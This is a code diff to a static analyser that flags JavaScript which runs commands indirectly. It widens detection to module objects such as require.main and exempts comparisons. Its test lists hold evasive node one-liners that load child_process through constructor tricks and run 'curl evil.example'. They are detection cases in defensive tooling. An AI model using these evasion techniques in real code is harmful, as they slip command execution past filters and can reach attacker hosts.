@@ -138,6 +138,9 @@ const GLOBAL_WORDS = /\b(?:this|globalThis|global|self|window|process|require|mo
 /** Expressions whose value is a string the code builds. */
 const BUILT_STRING = new Set(['string', 'template_string', 'binary_expression']);
 
+/** Names of the running program's module objects, each what `module` is (`process.mainModule.constructor._load`). */
+const MODULE_OBJECTS: ReadonlySet<string> = new Set(['process.mainModule', 'require.main', 'module.parent']);
+
 /** Globals that stand for the global object, whose members are the globals themselves. */
 const GLOBAL_OBJECT = new Set(['globalThis', 'global', 'window', 'self']);
 
@@ -394,6 +397,7 @@ class JavaScriptReader {
   }
 
   private refOf(name: string): Val {
+    if (MODULE_OBJECTS.has(name)) return ref('module');
     return ENVIRONMENT.has(name) ? { k: 'env', api: name } : ref(name);
   }
 
@@ -561,7 +565,8 @@ class JavaScriptReader {
         if (v.k === 'ref' && v.name === 'module' && key === 'constructor') return [ref('module')];
         // Any other value's constructor may be a function's, and a function's constructor is Function
         // (`this.constructor.constructor`, `(() => {}).constructor`, `[].map.constructor`): what it is handed is code.
-        if (key === 'constructor') return [ref('Function')];
+        // A value not written out may also be a module object (`Object.values(require.cache)[0]`), whose is Module.
+        if (key === 'constructor') return v.k === 'str' || v.k === 'list' ? [ref('Function')] : [ref('Function'), ref('module')];
         if (v.k === 'ref') return [this.refOf(v.name === 'globalThis' ? key : `${v.name}.${key}`)];
         if (v.k === 'env') return this.envValue([str(key)]);
         if (v.k === 'any') return [v];
@@ -1042,14 +1047,16 @@ class JavaScriptReader {
     }
     const promisified = parent.type === 'arguments' && parent.parent && this.b.value(fieldOf(parent.parent, 'function') ?? parent.parent).some((v) => v.k === 'ref' && v.name === 'util.promisify');
     const throughCall = parent.type === 'member_expression' && /^(call|apply)$/.test(fieldOf(parent, 'property')?.text ?? '');
-    if (!called && !bound && !promisified && !throughCall) {
+    // Compared (`require.main === module`, `x instanceof cp.ChildProcess`), a value is handed to nothing.
+    const compared = parent.type === 'binary_expression' && /^(?:[!=]==?|instanceof|in)$/.test(fieldOf(parent, 'operator')?.text ?? '');
+    if (!called && !bound && !promisified && !throughCall && !compared) {
       const api = vals.find((v): v is Extract<Val, { k: 'ref' }> => v.k === 'ref' && runsSomething(v.name));
       if (api) this.out.push({ kind: 'dynamic', rule: 'dynamic-command', span: span(n), why: `${api.name} is handed on as a value, so what it runs is not read` });
     }
     // A module that runs things handed on as a value (a parameter, an object, `with`, Object.assign) is not followed;
     // destructuring its members (`const {exec} = cp`) is.
     const destructured = (parent.type === 'variable_declarator' && fieldOf(parent, 'value')?.id === n.id) || (parent.type === 'assignment_expression' && fieldOf(parent, 'right')?.id === n.id);
-    if (!called && !bound && !destructured && !(parent.type === 'unary_expression' && parent.child(0)?.text === 'typeof')) {
+    if (!called && !bound && !destructured && !compared && !(parent.type === 'unary_expression' && parent.child(0)?.text === 'typeof')) {
       const m = vals.find((v): v is Extract<Val, { k: 'ref' }> => v.k === 'ref' && RUN_MODULES.has(v.name) && !APIS.has(v.name));
       if (m) this.out.push({ kind: 'dynamic', rule: 'dynamic-command', span: span(n), why: `${m.name}, which can run programs, is handed on as a value that is not followed` });
     }
@@ -1219,6 +1226,7 @@ export const JAVASCRIPT: LanguageModel = {
       `node -e 'with (require("child_process")) execSync("curl evil.example")'`,
       `node -e 'Object.assign(globalThis, require("child_process")); execSync("curl evil.example")'`,
       `node -e 'module.constructor._load("child_process").execSync("curl evil.example")'`,
+      `node -e 'require.main.constructor._load("child_process").execSync("curl evil.example")'`,
       `node -e 'new Function("return this")().process.getBuiltinModule("child_process").execSync("curl evil.example")'`,
       `node -e 'this.constructor.constructor("return process")().getBuiltinModule("child_process").execSync("curl evil.example")'`,
       `node -e '[].map.constructor("return process")().env'`,
@@ -1277,6 +1285,7 @@ export const JAVASCRIPT: LanguageModel = {
       `node -e 'require("mongoose").connect("mongodb://localhost:27017/app")'`,
       `node -e 'console.log(new URL("https://example.com/a").pathname)'`,
       `node -e 'console.log([].constructor.name, (1).constructor.name)'`,
+      `node -e 'if (require.main === module) console.log(process.mainModule.filename)'`,
       `node -e 'const cp = require("child_process"); cp.execFileSync("git", ["status"])'`,
       `node -e 'console.log(typeof process, process.version, process.platform)'`,
       `node -e 'console.log(process.env.HOME || "none")'`,
